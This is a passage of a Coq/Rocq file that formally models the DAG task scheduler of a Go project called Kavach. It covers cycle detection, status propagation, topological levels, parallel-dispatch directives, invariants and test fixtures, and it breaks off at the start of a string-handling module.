(** * Kavach: verification chain, policy store and parallel DAG scheduler

    A shallow embedding of the Go sources

      - shared/pkg/dag      (types.go, topo.go, graph.go, directive.go)
      - shared/pkg/chain    (verification.go, runner.go)
      - shared/pkg/config   (gates.go)
      - cmd/.../gates       (chain.go, intent_helpers.go, failure.go)
      - shared/pkg/types/hook.go

    together with the properties stated for them.

    Conventions of the embedding.

      - A Go [map[string]*Node] is a [gmap string Node]: the pointer stored
        under a key is identified with the key, and an in-place update
        through the pointer is [alter] at that key.
      - A Go method with a pointer receiver takes the state and returns the
        new state next to its result.
      - Recursive Go functions whose termination depends on the state
        ([hasPath], [propagateSkip]) and the [for len(queue) > 0] loop of
        [TopoLevels] carry a fuel argument and return [None] when it runs
        out; the top-level operations supply a fuel that is proved to be
        sufficient, so [None] is never observed there.
      - Go's [int] is [Z]; the only integers are list lengths and levels,
        far below the 64-bit bound.
      - Iteration over a Go map has an unspecified order. The order in
        which [TopoLevels] seeds its queue is an explicit argument; the
        other loops over maps compute results that do not depend on the
        order, except [extractAgents], whose list of agents is determined
        up to a permutation.
      - [time.Now()] is an argument of the functions that call it.
      - The audit file and the trace on stderr are not part of the
        embedding; what a command writes to stdout is its result. *)

From Stdlib Require Import ZArith QArith Qround String Ascii List Lia.
From Stdlib Require Import DecimalString.
From stdpp Require Import base option list gmap strings relations.

Local Open Scope string_scope.
Local Open Scope Z_scope.

(** ** Generic loops *)

(** [for _, a := range l { s = f(s, a) }] where the body may run out of
    fuel. *)
Fixpoint forEach {St A : Type} (f : St -> A -> option St) (s : St) (l : list A)
  : option St :=
  match l with
  | [] => Some s
  | a :: rest =>
      match f s a with
      | None => None
      | Some s' => forEach f s' rest
      end
  end.

(** ** The DAG scheduler (package dag) *)

Module Dag.

(** *** types.go *)

Definition NodeStatus := string.

Definition StatusPending : NodeStatus := "pending".
Definition StatusReady : NodeStatus := "ready".
Definition StatusDispatched : NodeStatus := "dispatched".
Definition StatusRunning : NodeStatus := "running".
Definition StatusDone : NodeStatus := "done".
Definition StatusFailed : NodeStatus := "failed".
Definition StatusSkipped : NodeStatus := "skipped".

Definition IsTerminal (s : NodeStatus) : bool :=
  bool_decide (s = StatusDone) || bool_decide (s = StatusFailed)
  || bool_decide (s = StatusSkipped).

Record Node := mkNode {
  ID : string;
  Subject : string;
  Description : string;
  Agent : string;
  Skill : string;
  Status : NodeStatus;
  DependsOn : list string;
  Blocks : list string;
  Level : Z;
  TaskID : string;
  Metadata : gmap string string
}.

Definition DAGStatus := string.

Definition DAGActive : DAGStatus := "active".
Definition DAGComplete : DAGStatus := "complete".
Definition DAGFailed : DAGStatus := "failed".

(** The fields [ID] and [Status] of the Go struct [DAGState] are [dagID]
    and [dagStatus] here, the names being taken by [Node]. *)
Record DAGState := mkDAGState {
  dagID : string;
  SessionID : string;
  RootPrompt : string;
  Nodes : gmap string Node;
  MaxLevel : Z;
  dagStatus : DAGStatus
}.

(** [Nodes []*Node] of a level is the list of the keys of the nodes pointed
    to. The field [Level] of the Go struct is [LevelIndex] here. *)
Record ParallelLevel := mkLevel {
  LevelIndex : Z;
  LevelNodes : list string
}.

(** Field assignments. *)

Definition withStatus (st : NodeStatus) (n : Node) : Node :=
  mkNode (ID n) (Subject n) (Description n) (Agent n) (Skill n) st
         (DependsOn n) (Blocks n) (Level n) (TaskID n) (Metadata n).

Definition withDependsOn (l : list string) (n : Node) : Node :=
  mkNode (ID n) (Subject n) (Description n) (Agent n) (Skill n) (Status n)
         l (Blocks n) (Level n) (TaskID n) (Metadata n).

Definition withBlocks (l : list string) (n : Node) : Node :=
  mkNode (ID n) (Subject n) (Description n) (Agent n) (Skill n) (Status n)
         (DependsOn n) l (Level n) (TaskID n) (Metadata n).

Definition withLevel (k : Z) (n : Node) : Node :=
  mkNode (ID n) (Subject n) (Description n) (Agent n) (Skill n) (Status n)
         (DependsOn n) (Blocks n) k (TaskID n) (Metadata n).

Definition withNodes (m : gmap string Node) (s : DAGState) : DAGState :=
  mkDAGState (dagID s) (SessionID s) (RootPrompt s) m (MaxLevel s) (dagStatus s).

Definition withMaxLevel (k : Z) (s : DAGState) : DAGState :=
  mkDAGState (dagID s) (SessionID s) (RootPrompt s) (Nodes s) k (dagStatus s).

Definition withDagStatus (st : DAGStatus) (s : DAGState) : DAGState :=
  mkDAGState (dagID s) (SessionID s) (RootPrompt s) (Nodes s) (MaxLevel s) st.

(** [p := s.Nodes[id]; p.field = v]: an update through the stored
    pointer. *)
Definition updNode (id : string) (f : Node -> Node) (s : DAGState) : DAGState :=
  withNodes (alter f id (Nodes s)) s.

(** *** graph.go *)

(** The id is a hash of the prompt and the wall clock; it is an argument
    here. *)
Definition NewDAGState (id sessionID prompt : string) : DAGState :=
  mkDAGState id sessionID prompt ∅ 0 DAGActive.

Definition AddNode (s : DAGState) (n : Node) : DAGState * option string :=
  match Nodes s !! ID n with
  | Some _ => (s, Some ("duplicate node: " ++ ID n))
  | None =>
      let n' := if bool_decide (Status n = "") then withStatus StatusPending n else n in
      (withNodes (<[ID n := n']> (Nodes s)) s, None)
  end.

(** The loop [for _, blocked := range node.Blocks] of [hasPath], with the
    recursive call as [step]. *)
Fixpoint hasPathLoop (step : string -> gset string -> option (bool * gset string))
    (blocks : list string) (visited : gset string) : option (bool * gset string) :=
  match blocks with
  | [] => Some (false, visited)
  | blocked :: rest =>
      match step blocked visited with
      | None => None
      | Some (true, visited') => Some (true, visited')
      | Some (false, visited') => hasPathLoop step rest visited'
      end
  end.

(** [visited map[string]bool] only ever receives [true]: it is the set of
    its keys. The map is shared by all recursive calls, so it is returned
    with the answer. *)
Fixpoint hasPath (fuel : nat) (s : DAGState) (from to : string)
    (visited : gset string) : option (bool * gset string) :=
  match fuel with
  | O => None
  | S fuel' =>
      if bool_decide (from = to) then Some (true, visited)
      else if bool_decide (from ∈ visited) then Some (false, visited)
      else
        let visited := {[from]} ∪ visited in
        match Nodes s !! from with
        | None => Some (false, visited)
        | Some node =>
            hasPathLoop (fun b v => hasPath fuel' s b to v) (Blocks node) visited
        end
  end.

Definition hasPathFuel (s : DAGState) : nat := S (size (Nodes s)).

Definition AddEdge (s : DAGState) (depID nodeID : string)
  : option (DAGState * option string) :=
  match Nodes s !! depID with
  | None => Some (s, Some ("node not found: " ++ depID))
  | Some _ =>
      match Nodes s !! nodeID with
      | None => Some (s, Some ("node not found: " ++ nodeID))
      | Some _ =>
          match hasPath (hasPathFuel s) s nodeID depID ∅ with
          | None => None
          | Some (true, _) =>
              Some (s, Some ("cycle detected: " ++ depID ++ " -> " ++ nodeID))
          | Some (false, _) =>
              let s1 := updNode nodeID (fun n => withDependsOn (DependsOn n ++ [depID]) n) s in
              let s2 := updNode depID (fun n => withBlocks (Blocks n ++ [nodeID]) n) s1 in
              Some (s2, None)
          end
      end
  end.


(** [checkReady]'s loop over [node.DependsOn]: it runs to the end exactly
    when every dependency is stored, terminal and done. *)
Fixpoint depsAllDone (s : DAGState) (deps : list string) : bool :=
  match deps with
  | [] => true
  | depID :: rest =>
      match Nodes s !! depID with
      | None => false
      | Some dep =>
          if negb (IsTerminal (Status dep)) then false
          else if negb (bool_decide (Status dep = StatusDone)) then false
          else depsAllDone s rest
      end
  end.

Definition checkReady (s : DAGState) (id : string) : DAGState :=
  match Nodes s !! id with
  | None => s
  | Some node =>
      if IsTerminal (Status node) then s
      else if depsAllDone s (DependsOn node)
           then updNode id (withStatus StatusReady) s
           else s
  end.

Fixpoint propagateSkip (fuel : nat) (s : DAGState) (id : string) : option DAGState :=
  match fuel with
  | O => None
  | S fuel' =>
      match Nodes s !! id with
      | None => Some s
      | Some node =>
          if IsTerminal (Status node) then Some s
          else forEach (propagateSkip fuel')
                       (updNode id (withStatus StatusSkipped) s) (Blocks node)
      end
  end.

Definition propagateSkipFuel (s : DAGState) : nat := S (size (Nodes s)).

(** The nodes of the state, for the loops whose result does not depend on
    the order of the iteration. *)
Definition nodeList (s : DAGState) : list Node := (map_to_list (Nodes s)).*2.

Definition IsComplete (s : DAGState) : bool :=
  forallb (fun n => IsTerminal (Status n)) (nodeList s)
  && bool_decide (0 < size (Nodes s))%nat.

(** The last block of [UpdateNodeStatus]: recompute the overall status. *)
Definition refreshStatus (s : DAGState) : DAGState :=
  if IsComplete s then
    if existsb (fun n => bool_decide (Status n = StatusFailed)
                         || bool_decide (Status n = StatusSkipped)) (nodeList s)
    then withDagStatus DAGFailed s
    else withDagStatus DAGComplete s
  else s.

Definition UpdateNodeStatus (s : DAGState) (id : string) (status : NodeStatus)
  : option DAGState :=
  match Nodes s !! id with
  | None => Some s
  | Some node =>
      let s1 := updNode id (withStatus status) s in
      let s2 := if bool_decide (status = StatusDone)
                then foldl checkReady s1 (Blocks node) else s1 in
      match (if bool_decide (status = StatusFailed)
             then forEach (propagateSkip (propagateSkipFuel s2)) s2 (Blocks node)
             else Some s2) with
      | None => None
      | Some s3 => Some (refreshStatus s3)
      end
  end.

(** *** topo.go *)

(** [inDeg[id]] for a key that may be absent. *)
Definition inDegOf (inDeg : gmap string Z) (id : string) : Z :=
  default 0 (inDeg !! id).

(** Body of [for _, blockedID := range node.Blocks]. *)
Definition releaseBlocked (acc : gmap string Z * list string) (blockedID : string)
  : gmap string Z * list string :=
  let inDeg := <[blockedID := inDegOf acc.1 blockedID - 1]> acc.1 in
  if bool_decide (inDegOf inDeg blockedID = 0)
  then (inDeg, (acc.2 ++ [blockedID])%list)
  else (inDeg, acc.2).

(** The variables that the loop over one queue updates. *)
Record Wave := mkWave {
  wState : DAGState;
  wInDeg : gmap string Z;
  wNodes : list string;
  wProcessed : Z;
  wNext : list string
}.

(** Body of [for _, id := range queue]. [None] is the nil dereference of
    [node.Level = level.Level] for an id that is not stored. *)
Definition processNode (level : Z) (w : Wave) (id : string) : option Wave :=
  match Nodes (wState w) !! id with
  | None => None
  | Some node =>
      let released := foldl releaseBlocked (wInDeg w, wNext w) (Blocks node) in
      Some (mkWave (updNode id (withLevel level) (wState w)) released.1
                   (wNodes w ++ [id]) (wProcessed w + 1) released.2)
  end.

(** What a call of [TopoLevels] does: it returns the levels, or the error
    "cycle detected: processed %d of %d nodes", with the state as the call
    leaves it; or it stops on a nil dereference. *)
Inductive TopoOutcome :=
| TopoOK (levels : list ParallelLevel) (state : DAGState)
| TopoCycle (processed total : Z) (state : DAGState)
| TopoNilDeref.

Fixpoint topoLoop (fuel : nat) (state : DAGState) (inDeg : gmap string Z)
    (queue : list string) (levels : list ParallelLevel) (processed : Z)
  : option TopoOutcome :=
  match fuel with
  | O => None
  | S fuel' =>
      match queue with
      | [] =>
          if bool_decide (processed ≠ Z.of_nat (size (Nodes state)))
          then Some (TopoCycle processed (Z.of_nat (size (Nodes state))) state)
          else Some (TopoOK levels
                            (withMaxLevel (Z.of_nat (length levels) - 1) state))
      | _ :: _ =>
          let level := Z.of_nat (length levels) in
          match forEach (processNode level)
                        (mkWave state inDeg [] processed []) queue with
          | None => Some TopoNilDeref
          | Some w =>
              topoLoop fuel' (wState w) (wInDeg w) (wNext w)
                       (levels ++ [mkLevel level (wNodes w)]) (wProcessed w)
          end
      end
  end.

(** [order] is the order in which [range inDeg] enumerates the keys. *)
Definition TopoLevels (order : list string) (state : DAGState) : option TopoOutcome :=
  let inDeg := (fun n => Z.of_nat (length (DependsOn n))) <$> Nodes state in
  let queue := filter (fun id => inDeg !! id = Some 0) order in
  topoLoop (S (size (Nodes state))) state inDeg queue [] 0.

(** [order] enumerates the keys of the node map, each once. *)
Definition keyOrder (s : DAGState) (order : list string) : Prop :=
  NoDup order /\ forall id, id ∈ order <-> id ∈ dom (Nodes s).

(** *** States built through the API *)

(** A state obtained from [NewDAGState] by successful calls of [AddNode],
    with nodes that carry no adjacency of their own, and of [AddEdge]. *)
Inductive Constructed : DAGState -> Prop :=
| Constructed_new id sessionID prompt :
    Constructed (NewDAGState id sessionID prompt)
| Constructed_node s n :
    Constructed s -> DependsOn n = [] -> Blocks n = [] ->
    (AddNode s n).2 = None -> Constructed (AddNode s n).1
| Constructed_edge s depID nodeID s' :
    Constructed s -> AddEdge s depID nodeID = Some (s', None) ->
    Constructed s'.

(** *** Fixtures of dag_test.go *)

Definition testNode (id subject agent : string) (status : NodeStatus) : Node :=
  mkNode id subject "" agent "" status [] [] 0 "" ∅.

Definition addNodes (s : DAGState) (l : list Node) : DAGState :=
  foldl (fun s n => (AddNode s n).1) s l.

Definition addEdges (s : DAGState) (l : list (string * string)) : DAGState :=
  foldl (fun s e => match AddEdge s e.1 e.2 with
                    | Some (s', _) => s'
                    | None => s
                    end) s l.

(** TestTopoLevels: a -> c -> e, b -> d -> e. *)
Definition diamondNodes : DAGState :=
  addNodes (NewDAGState "kv-000000" "test-session" "build payment handler")
    [testNode "a" "Research webhook patterns" "research" "";
     testNode "b" "Research Hyperswitch API" "research" "";
     testNode "c" "Implement webhook handler" "backend" "";
     testNode "d" "Implement payment types" "backend" "";
     testNode "e" "Integration test" "testing" ""].

Definition diamond : DAGState :=
  addEdges diamondNodes [("a", "c"); ("b", "d"); ("c", "e"); ("d", "e")].

(** TestCycleDetection: x -> y -> z. *)
Definition chainXYZ : DAGState :=
  addEdges
    (addNodes (NewDAGState "kv-000001" "test-cycle" "cycle test")
       [testNode "x" "X" "" ""; testNode "y" "Y" "" ""; testNode "z" "Z" "" ""])
    [("x", "y"); ("y", "z")].

(** TestNodeStatusPropagation: a -> b -> c with a ready. *)
Definition chainABC : DAGState :=
  addEdges
    (addNodes (NewDAGState "kv-000002" "test-prop" "propagation test")
       [testNode "a" "A" "" StatusReady; testNode "b" "B" "" StatusPending;
        testNode "c" "C" "" StatusPending])
    [("a", "b"); ("b", "c")].

Definition updateStatus (s : DAGState) (id : string) (st : NodeStatus) : DAGState :=
  default s (UpdateNodeStatus s id st).

Definition statusOf (s : DAGState) (id : string) : option NodeStatus :=
  Status <$> Nodes s !! id.

(** *** Reachability through [Blocks] *)

(** [y] is listed in the [Blocks] of the node stored under [x]. *)
Definition blocksEdge (s : DAGState) (x y : string) : Prop :=
  exists n, Nodes s !! x = Some n /\ y ∈ Blocks n.

(** A path of zero or more [Blocks] steps. *)
Definition blocksPath (s : DAGState) : string -> string -> Prop :=
  rtc (blocksEdge s).

(** What a returning call [hasPath from to visited] establishes. On [true]
    a path exists. On [false] the nodes marked during the call are closed
    under [Blocks] and do not contain [to]. *)
Definition hasPathPost (s : DAGState) (to : string) (v : gset string)
    (r : bool * gset string) (found : Prop) (seen : gset string -> Prop) : Prop :=
  v ⊆ r.2 /\
  if r.1 then found
  else seen r.2 /\ (to ∉ r.2 ∖ v) /\
       (forall x y, x ∈ r.2 -> x ∉ v -> blocksEdge s x y -> y ∈ r.2).

(** Termination: every call that passes the two early returns and finds
    its node marks a stored node that was not marked before, so the depth
    of the recursion is at most the number of unmarked stored nodes. *)
Definition unmarked (s : DAGState) (v : gset string) : nat :=
  size (dom (Nodes s) ∖ v).

(** *** Status propagation *)

Definition nonTerminalAt (s : DAGState) (id : string) : Prop :=
  exists n, Nodes s !! id = Some n /\ IsTerminal (Status n) = false.

(** The node, if it is stored, is terminal. *)
Definition terminalAt (s : DAGState) (id : string) : Prop :=
  forall n, Nodes s !! id = Some n -> IsTerminal (Status n) = true.

(** Every dependency of the node is stored with status done. *)
Definition depsDoneAt (s : DAGState) (id : string) : Prop :=
  forall n d, Nodes s !! id = Some n -> d ∈ DependsOn n ->
              statusOf s d = Some StatusDone.

(** The two states store the same ids with the same adjacency lists. *)
Definition sameGraph (s s' : DAGState) : Prop :=
  forall id, Blocks <$> Nodes s' !! id = Blocks <$> Nodes s !! id /\
             DependsOn <$> Nodes s' !! id = DependsOn <$> Nodes s !! id.

(** From [s] to [s'] the only change is that some non-terminal nodes, all
    satisfying [cond], received the status [tgt]. *)
Definition promotes (tgt : NodeStatus) (cond : string -> Prop)
    (s s' : DAGState) : Prop :=
  sameGraph s s' /\
  forall x, statusOf s' x = statusOf s x \/
            (nonTerminalAt s x /\ statusOf s' x = Some tgt /\ cond x).

(** A [Blocks] step into a stored, non-terminal node, and paths of one or
    more such steps: the paths along which [propagateSkip] advances. *)
Definition liveEdge (s : DAGState) (x y : string) : Prop :=
  blocksEdge s x y /\ nonTerminalAt s y.

Definition livePath (s : DAGState) : string -> string -> Prop :=
  tc (liveEdge s).

(** A call of [propagateSkip] on [id] in the state [s] can change [x]:
    [id] is stored and non-terminal, and [x] is [id] or a node on a live
    path from it. *)
Definition skipReach (s : DAGState) (id x : string) : Prop :=
  nonTerminalAt s id /\ (x = id \/ livePath s id x).

(** A stored non-terminal node whose dependencies are all done is ready. *)
Definition settled (s : DAGState) (c : string) : Prop :=
  nonTerminalAt s c -> depsDoneAt s c -> statusOf s c = Some StatusReady.

(** The nodes that the step from [s] to [s'] skipped have only terminal
    children in [s']. *)
Definition skipClosed (s s' : DAGState) : Prop :=
  forall x y, nonTerminalAt s x -> statusOf s' x = Some StatusSkipped ->
              blocksEdge s x y -> terminalAt s' y.

Definition skips (s s' : DAGState) : Prop :=
  promotes StatusSkipped (fun _ => True) s s'.

(** The stored non-terminal nodes: the measure of [propagateSkip]. *)
Definition liveSet (s : DAGState) : gset string :=
  dom (filter (fun kv => IsTerminal (Status kv.2) = false) (Nodes s)).


(** Scripts of construction calls, all of which must succeed. *)
Inductive Op :=
| OpNode (n : Node)
| OpEdge (depID nodeID : string).

Definition runOp (s : DAGState) (op : Op) : option DAGState :=
  match op with
  | OpNode n =>
      if bool_decide (DependsOn n = [] /\ Blocks n = []) then
        match AddNode s n with
        | (s', None) => Some s'
        | (_, Some _) => None
        end
      else None
  | OpEdge depID nodeID =>
      match AddEdge s depID nodeID with
      | Some (s', None) => Some s'
      | _ => None
      end
  end.

Definition replay (s : DAGState) (ops : list Op) : option DAGState :=
  forEach runOp s ops.

Definition diamondScript : list Op :=
  [OpNode (testNode "a" "Research webhook patterns" "research" "");
   OpNode (testNode "b" "Research Hyperswitch API" "research" "");
   OpNode (testNode "c" "Implement webhook handler" "backend" "");
   OpNode (testNode "d" "Implement payment types" "backend" "");
   OpNode (testNode "e" "Integration test" "testing" "");
   OpEdge "a" "c"; OpEdge "b" "d"; OpEdge "c" "e"; OpEdge "d" "e"].

(** *** Well-formed graphs and levels *)

Fixpoint countIf (p : string -> bool) (l : list string) : nat :=
  match l with
  | [] => O
  | x :: rest => ((if p x then 1 else 0) + countIf p rest)%nat
  end.

(** Number of occurrences of [x]; adjacency lists may repeat an id, since
    [AddEdge] accepts the same edge twice. *)
Definition occ (x : string) (l : list string) : nat :=
  countIf (fun y => bool_decide (y = x)) l.

(** [d] is listed in the [DependsOn] of the node stored under [n]. *)
Definition depRel (s : DAGState) (d n : string) : Prop :=
  exists node, Nodes s !! n = Some node /\ d ∈ DependsOn node.

(** Listed ids are stored, the two adjacency lists agree with
    multiplicity, and there is no infinite chain of dependencies. *)
Record WellFormed (s : DAGState) : Prop := mkWellFormed {
  wf_deps_stored : forall id n d,
    Nodes s !! id = Some n -> d ∈ DependsOn n -> d ∈ dom (Nodes s);
  wf_blocks_stored : forall id n b,
    Nodes s !! id = Some n -> b ∈ Blocks n -> b ∈ dom (Nodes s);
  wf_agree : forall x y nx ny,
    Nodes s !! x = Some nx -> Nodes s !! y = Some ny ->
    occ y (Blocks nx) = occ x (DependsOn ny);
  wf_acc : forall id, Acc (depRel s) id
}.

Definition blocksOf (s : DAGState) (id : string) : list string :=
  default [] (Blocks <$> Nodes s !! id).

(** The ids in the levels before level [k]. *)
Definition placedBefore (levels : list ParallelLevel) (k : nat) : list string :=
  concat (LevelNodes <$> take k levels).

Definition placed (levels : list ParallelLevel) : list string :=
  concat (LevelNodes <$> levels).

(** [id] is stored, is in no earlier level, and every dependency of it is
    in an earlier level. *)
Definition isWave (s : DAGState) (before : list string) (id : string) : Prop :=
  exists n, Nodes s !! id = Some n /\ (id ∉ before) /\
            forall d, d ∈ DependsOn n -> d ∈ before.

(** The invariant of the outer loop of [TopoLevels] on the state [s]. *)
Record KahnInv (s : DAGState) (fuel : nat) (st : DAGState)
    (inDeg : gmap string Z) (queue : list string)
    (levels : list ParallelLevel) (processed : Z) : Prop := mkKahnInv {
  ki_graph : sameGraph s st;
  ki_nodup : NoDup (placed levels);
  ki_queue_nodup : NoDup queue;
  ki_queue : forall x, x ∈ queue <-> isWave s (placed levels) x;
  ki_indeg : forall x nx, Nodes s !! x = Some nx ->
    inDegOf inDeg x =
    Z.of_nat (countIf (fun d => bool_decide (d ∉ placed levels)) (DependsOn nx));
  ki_processed : processed = Z.of_nat (length (placed levels));
  ki_levels : forall k lv, levels !! k = Some lv ->
    LevelIndex lv = Z.of_nat k /\
    forall id, id ∈ LevelNodes lv <-> isWave s (placedBefore levels k) id;
  ki_level_field : forall k lv id, levels !! k = Some lv -> id ∈ LevelNodes lv ->
    exists n, Nodes st !! id = Some n /\ Level n = Z.of_nat k;
  ki_fuel : (size (Nodes s) < fuel + length (placed levels))%nat
}.

(** What [TopoLevels] promises for the levels it returns on [s] and the
    state [s'] it leaves: [MaxLevel] is the number of levels minus one,
    the adjacency is untouched, level [k] holds exactly the stored nodes
    outside the earlier levels whose dependencies are all in earlier
    levels, and every stored node is in the level that its [Level] field
    names. *)
Definition TopoPost (s : DAGState) (levels : list ParallelLevel)
    (s' : DAGState) : Prop :=
  MaxLevel s' = Z.of_nat (length levels) - 1 /\
  sameGraph s s' /\
  (forall k lv, levels !! k = Some lv ->
     LevelIndex lv = Z.of_nat k /\
     forall id, id ∈ LevelNodes lv <-> isWave s (placedBefore levels k) id) /\
  (forall id n, Nodes s !! id = Some n ->
     exists k lv n', levels !! k = Some lv /\ id ∈ LevelNodes lv /\
                     Nodes s' !! id = Some n' /\ Level n' = Z.of_nat k).

(** *** The propagation properties as they are stated *)



(** Node statuses, adjacency lists and the overall status are the same. *)
Definition unchanged (s s' : DAGState) : Prop :=
  sameGraph s s' /\ (forall x, statusOf s' x = statusOf s x) /\
  dagStatus s' = dagStatus s.

(** States of the propagation test: after a is done, after b is done
    instead, and after a is done and b has failed. *)
Definition doneA : DAGState := updateStatus chainABC "a" StatusDone.
Definition failedB : DAGState := updateStatus doneA "b" StatusFailed.

(** *** What the operations leave alone *)

(** [s'] differs from [s] at most in the [Level] fields of its nodes and
    in [MaxLevel]. *)
Definition onlyLevels (s s' : DAGState) : Prop :=
  dagID s' = dagID s /\ SessionID s' = SessionID s /\
  RootPrompt s' = RootPrompt s /\ dagStatus s' = dagStatus s /\
  forall id, withLevel 0 <$> Nodes s' !! id = withLevel 0 <$> Nodes s !! id.

(** [s'] differs from [s] at most in the [Status] fields of its nodes and
    in the overall status. *)
Definition onlyStatuses (s s' : DAGState) : Prop :=
  dagID s' = dagID s /\ SessionID s' = SessionID s /\
  RootPrompt s' = RootPrompt s /\ MaxLevel s' = MaxLevel s /\
  forall id, withStatus "" <$> Nodes s' !! id = withStatus "" <$> Nodes s !! id.

(** Every node is stored under its own [ID]. *)
Definition keyedByID (s : DAGState) : Prop :=
  forall id n, Nodes s !! id = Some n -> ID n = id.

(** Every stored node is done. *)
Definition allDone (s : DAGState) : Prop :=
  forall id n, Nodes s !! id = Some n -> Status n = StatusDone.

(** Every stored node is terminal. *)
Definition allTerminal (s : DAGState) : Prop :=
  forall id n, Nodes s !! id = Some n -> IsTerminal (Status n) = true.

(** *** The outer loop of [TopoLevels] on an arbitrary state *)

(** What the loop maintains whatever the adjacency lists hold: an id
    enters the queue at most once, namely when its counter reaches zero,
    and only stored ids do. *)
Record QueueInv (s : DAGState) (fuel : nat) (st : DAGState)
    (inDeg : gmap string Z) (queue : list string)
    (levels : list ParallelLevel) (processed : Z) : Prop := mkQueueInv {
  qi_frame : onlyLevels s st;
  qi_max : MaxLevel st = MaxLevel s;
  qi_nodup : NoDup (placed levels ++ queue)%list;
  qi_stored : forall x, x ∈ (placed levels ++ queue)%list -> is_Some (Nodes s !! x);
  qi_used : forall x, x ∈ (placed levels ++ queue)%list -> inDegOf inDeg x <= 0;
  qi_waiting : forall x, is_Some (Nodes s !! x) ->
    x ∉ (placed levels ++ queue)%list -> 0 < inDegOf inDeg x;
  qi_absent : forall x, Nodes s !! x = None -> inDegOf inDeg x <= 0;
  qi_processed : processed = Z.of_nat (length (placed levels));
  qi_levels : forall k lv, levels !! k = Some lv ->
    LevelIndex lv = Z.of_nat k /\ LevelNodes lv <> [] /\
    forall id, id ∈ LevelNodes lv ->
      exists n, Nodes st !! id = Some n /\ Level n = Z.of_nat k;
  qi_fuel : (size (Nodes s) < fuel + length (placed levels))%nat
}.

(** What a call of [TopoLevels] on [s] with the outcome [out] has done. It
    returned the levels: they are not empty, they hold every stored id
    once, and each node carries the index of its level. Or it returned the
    cycle error: fewer nodes than are stored were processed, and
    [MaxLevel] is as before. Either way only [Level] fields and [MaxLevel]
    have changed. *)
Definition TopoOutcomeOK (s : DAGState) (out : TopoOutcome) : Prop :=
  match out with
  | TopoOK levels s' =>
      onlyLevels s s' /\ MaxLevel s' = Z.of_nat (length levels) - 1 /\
      NoDup (placed levels) /\
      (forall id, id ∈ placed levels <-> is_Some (Nodes s !! id)) /\
      forall k lv, levels !! k = Some lv ->
        LevelIndex lv = Z.of_nat k /\ LevelNodes lv <> [] /\
        forall id, id ∈ LevelNodes lv ->
          exists n, Nodes s' !! id = Some n /\ Level n = Z.of_nat k
  | TopoCycle processed total s' =>
      onlyLevels s s' /\ MaxLevel s' = MaxLevel s /\
      total = Z.of_nat (size (Nodes s)) /\ 0 <= processed < total
  | TopoNilDeref => False
  end.

(** Listed ids are stored and the two adjacency lists agree with
    multiplicity; cycles are not excluded. *)
Record Consistent (s : DAGState) : Prop := mkConsistent {
  cs_deps_stored : forall id n d,
    Nodes s !! id = Some n -> d ∈ DependsOn n -> d ∈ dom (Nodes s);
  cs_blocks_stored : forall id n b,
    Nodes s !! id = Some n -> b ∈ Blocks n -> b ∈ dom (Nodes s);
  cs_agree : forall x y nx ny,
    Nodes s !! x = Some nx -> Nodes s !! y = Some ny ->
    occ y (Blocks nx) = occ x (DependsOn ny)
}.

(** With consistent adjacency lists the loop also maintains that the
    counter of a node is the number of its dependencies that are not yet
    in a level, and that a node in a level or in the queue has all its
    dependencies in levels. *)
Record CountInv (s : DAGState) (inDeg : gmap string Z) (queue : list string)
    (levels : list ParallelLevel) : Prop := mkCountInv {
  ci_indeg : forall x nx, Nodes s !! x = Some nx ->
    inDegOf inDeg x =
    Z.of_nat (countIf (fun d => bool_decide (d ∉ placed levels)) (DependsOn nx));
  ci_queue : forall x nx d, x ∈ queue ->
    Nodes s !! x = Some nx -> d ∈ DependsOn nx -> d ∈ placed levels;
  ci_levels : forall k lv x nx d, levels !! k = Some lv -> x ∈ LevelNodes lv ->
    Nodes s !! x = Some nx -> d ∈ DependsOn nx -> d ∈ placedBefore levels k
}.

(** A two-node state as [Load] may return it from a file that lists each
    node as a dependency of the other. *)
Definition loopPQ : DAGState :=
  mkDAGState "kv-000004" "test-loop" "loop test"
    (<["p" := mkNode "p" "P" "" "" "" StatusPending ["q"] ["q"] 0 "" ∅]>
       (<["q" := mkNode "q" "Q" "" "" "" StatusPending ["p"] ["p"] 0 "" ∅]> ∅))
    0 DAGActive.

(** *** directive.go *)

(** [%d] of [fmt.Sprintf]. *)
Definition formatInt (z : Z) : string := NilZero.string_of_int (Z.to_int z).

Definition lf : string := String (ascii_of_nat 10) EmptyString.

Definition quote : string := String (ascii_of_nat 34) EmptyString.

(** What one iteration of the loop over [level.Nodes] appends. *)
Definition taskBlock (n : Node) : string :=
  "[TASK:" ++ ID n ++ "]" ++ lf ++ "subject: " ++ Subject n ++ lf
  ++ "description: " ++ Description n ++ lf ++ "agent: " ++ Agent n ++ lf
  ++ (if bool_decide (Skill n = "") then "" else "skill: " ++ Skill n ++ lf)
  ++ "metadata: {" ++ quote ++ "dag_node_id" ++ quote ++ ": " ++ quote ++ ID n
  ++ quote ++ "}" ++ lf ++ lf.

Definition afterLevel : string :=
  "[AFTER_LEVEL]" ++ lf
  ++ "When all tasks above complete, next level will be dispatched automatically."
  ++ lf.

(** [level] and [nodes] are the field [Level] of the level and the nodes
    that its field [Nodes] points to. *)
Definition BuildParallelDispatch (dagID : string) (level : Z) (nodes : list Node)
    (maxLevel : Z) : string :=
  let out := "[DAG_SCHEDULER]" ++ lf ++ "dag_id: " ++ dagID ++ lf
             ++ "status: active" ++ lf ++ "level: " ++ formatInt level ++ "/"
             ++ formatInt maxLevel ++ lf ++ lf in
  let out := out ++ "[PARALLEL_DISPATCH]" ++ lf
             ++ "instruction: Create ALL tasks below in a SINGLE message using parallel TaskCreate calls"
             ++ lf ++ "count: " ++ formatInt (Z.of_nat (length nodes)) ++ lf ++ lf in
  let out := fold_left (fun out n => out ++ taskBlock n) nodes out in
  if level <? maxLevel then out ++ afterLevel else out.

(** The blocks of the nodes of a level, one after the other. *)
Fixpoint taskBlocks (nodes : list Node) : string :=
  match nodes with
  | [] => ""
  | n :: rest => taskBlock n ++ taskBlocks rest
  end.

(** The two headers of the directive. *)
Definition dispatchHeader (dagID : string) (level maxLevel : Z) (count : nat)
  : string :=
  ("[DAG_SCHEDULER]" ++ lf ++ "dag_id: " ++ dagID ++ lf
   ++ "status: active" ++ lf ++ "level: " ++ formatInt level ++ "/"
   ++ formatInt maxLevel ++ lf ++ lf)
  ++ "[PARALLEL_DISPATCH]" ++ lf
  ++ "instruction: Create ALL tasks below in a SINGLE message using parallel TaskCreate calls"
  ++ lf ++ "count: " ++ formatInt (Z.of_nat count) ++ lf ++ lf.

End Dag.

(** ** Go's strings package, on byte strings *)

Module GoStrings.

(** [strings.ToLower] maps the bytes A-Z to a-z; the other bytes below
    0x80 are left as they are. For bytes from 0x80 on Go decodes UTF-8
